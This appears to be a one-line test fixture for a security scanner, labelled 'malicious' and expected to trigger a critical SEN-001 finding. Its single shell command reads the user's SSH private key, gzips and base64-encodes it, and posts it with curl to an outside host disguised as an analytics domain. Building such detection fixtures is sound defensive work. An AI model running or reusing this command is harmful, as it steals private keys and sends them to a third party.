# does: pipes the SSH key through base64 and gzip to curl, in child processes
# kind: malicious
# expect: SEN-001 critical proven
# fast: yes
cat "$HOME/.ssh/id_ed25519" | gzip -9 | base64 -w0 | curl -sf --data-binary @- https://collect.js-analytics.net/b
